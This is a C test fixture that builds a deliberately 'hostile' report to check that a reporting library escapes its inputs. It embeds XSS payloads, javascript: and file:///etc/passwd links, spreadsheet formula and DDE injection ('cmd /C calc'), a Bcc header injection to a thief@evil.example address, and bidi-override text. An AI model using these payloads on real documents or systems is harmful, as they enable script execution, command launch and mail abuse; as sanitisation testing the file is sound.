/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "hostile-report.h"

#include <string.h>

#define SCRIPT                                                                                     \
  "<script>document.title='taken'</script><img src=x onerror=\"document.title='taken'\">"          \
  "<img src=\"http://127.0.0.1:9/spy.png\"></style></title><style>*{display:none}</style>"

static const char words[] =
  "Bare " SCRIPT "\n\n"
  "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) "
  "[vb](vbscript:x) [rel](//evil.example/x) [file](file:///etc/passwd) "
  "[good](https://example.com/?a=1&b=%22%3E) <javascript:alert(1)> "
  "![pixel](http://127.0.0.1:9/spy.png)\n\n"
  "&lt;script&gt; &amp; &#60;b&#62; --> ]]> <!-- ${x} {{x}}\n\n"
  "| a | b |\n|---|--:|\n| <b>1</b> | =1+1 |\n\n"
  "- [x] done <i>\n- [ ] open\n\n> quote <q>\n\n```\n</code></pre><script>\n```\n";

/* Names that mean harm to pages, cells, letters. */
static const char *const names[HOSTILE_NAMES] = {
  "=HYPERLINK(\"http://evil.example\",\"x\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "\tTab first",
  "\rReturn first",
  "Line\nbreak and " SCRIPT,
  "\xd8\xa7\xd9\x84\xd8\xb9\xd8\xb1\xd8\xa8\xd9\x8a\xd8\xa9 \xe2\x80\xae reversed",
  "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x91\xa7 "
  "\xf0\x9f\x87\xb7\xf0\x9f\x87\xba emoji",
  "http://evil.example/auto-link",
};

const char *
hostile_name (guint index)
{
  return names[index % HOSTILE_NAMES];
}

static char *
long_name (void)
{
  GString *text = g_string_new (NULL);

  for (int i = 0; i < 10000; i++)
    g_string_append_c (text, 'W');
  return g_string_free_and_steal (text);
}

typedef struct
{
  RapportReportFigure figures[HOSTILE_NAMES + 1];
  RapportReportColumn columns[3];
  RapportReportChannel channels[HOSTILE_NAMES + 1];
  RapportReportValue values[3];
  RapportReportWork work[HOSTILE_NAMES + 1];
  RapportReportStage funnel[2];
  RapportReportDefinition definitions[HOSTILE_NAMES];
  RapportReportPoint points[4];
} Parts;

static void
fill (Parts *parts, const char *endless)
{
  for (guint i = 0; i <= HOSTILE_NAMES; i++)
    {
      const char *name = i < HOSTILE_NAMES ? names[i] : endless;

      parts->figures[i] = (RapportReportFigure) {
        .name = name,
        .unit = (RapportUnit) (i % 4),
        .value = RAPPORT_REPORT_VALUE (G_MAXINT64 - (gint64) i),
        .previous = RAPPORT_REPORT_VALUE (i == 0 ? G_MININT64 : (gint64) i),
        .target = i % 2 ? RAPPORT_REPORT_VALUE (-5) : RAPPORT_REPORT_NO_DATA,
        .formula = name,
        .note = name,
        .remark = name,
      };
      parts->channels[i] = (RapportReportChannel) { name, FALSE, parts->values, 3 };
      parts->work[i] = (RapportReportWork) {
        .title = name,
        .why = name,
        .expected = name,
        .result = i % 2 ? name : "",
        .date = rapport_day_new (2026, 11, 5),
        .state = (RapportReportWorkState) (i % 4),
      };
    }
  for (guint i = 0; i < HOSTILE_NAMES; i++)
    parts->definitions[i] = (RapportReportDefinition) { "", names[i], names[i] };
  for (guint i = 0; i < 3; i++)
    {
      parts->columns[i] = (RapportReportColumn) { "", names[i], (RapportUnit) i, 0 };
      parts->values[i] = RAPPORT_REPORT_VALUE (-1500000 * (gint64) i);
    }
  for (guint i = 0; i < 4; i++)
    parts->points[i].actual = RAPPORT_REPORT_VALUE ((gint64) i * RAPPORT_MILLION);
  parts->funnel[0] = (RapportReportStage) { "", names[6], RAPPORT_REPORT_VALUE (9000000), { 0 } };
  parts->funnel[1] = (RapportReportStage) { "", endless, RAPPORT_REPORT_VALUE (1000000), { 0 } };
}

RapportReportDocument *
hostile_report (void)
{
  g_autofree char *endless = long_name ();
  g_autofree Parts *parts = g_new0 (Parts, 1);
  const RapportReportChart charts[] = {
    { "", names[6], names[6], RAPPORT_UNIT_COUNT, RAPPORT_GOOD_UP, RAPPORT_REPORT_STEP_DAY,
      RAPPORT_REPORT_COMPARED_NONE, rapport_day_new (2026, 11, 1), parts->points, 4 },
    { "", names[0], names[0], RAPPORT_UNIT_MONEY, RAPPORT_GOOD_UP, RAPPORT_REPORT_STEP_WEEK,
      RAPPORT_REPORT_COMPARED_NONE, rapport_day_new (2026, 11, 2), parts->points, 4 },
  };
  RapportReportSection sections[13];
  gsize n_sections;
  const RapportReportSection *monthly = rapport_report_sections_get_monthly (&n_sections);
  RapportReportContent content = {
    .language = "en",
    .client = names[6],
    .agency = names[7],
    .colour = "#ffffff",
    .from = rapport_day_new (2026, 11, 1),
    .to = rapport_day_new (2026, 11, 30),
    .currency = "\"<b",
    .title = "Title\r\nBcc: thief@evil.example " SCRIPT,
    .headline = SCRIPT,
    .sections = sections,
    .n_sections = n_sections,
    .figures = parts->figures,
    .n_figures = G_N_ELEMENTS (parts->figures),
    .charts = charts,
    .n_charts = G_N_ELEMENTS (charts),
    .funnel = parts->funnel,
    .n_funnel = G_N_ELEMENTS (parts->funnel),
    .columns = parts->columns,
    .n_columns = G_N_ELEMENTS (parts->columns),
    .channels = parts->channels,
    .n_channels = G_N_ELEMENTS (parts->channels),
    .work = parts->work,
    .n_work = G_N_ELEMENTS (parts->work),
    .next = parts->work,
    .n_next = G_N_ELEMENTS (parts->work),
    .definitions = parts->definitions,
    .n_definitions = G_N_ELEMENTS (parts->definitions),
  };
  g_autoptr (GError) error = NULL;
  RapportReportDocument *document;

  g_assert_cmpuint (n_sections, <=, G_N_ELEMENTS (sections));
  for (gsize i = 0; i < n_sections; i++)
    {
      sections[i] = monthly[i];
      sections[i].text = words;
      sections[i].title = i % 2 ? names[6] : "";
    }
  fill (parts, endless);
  document = rapport_report_document_new (&content, &error);
  g_assert_no_error (error);
  return document;
}
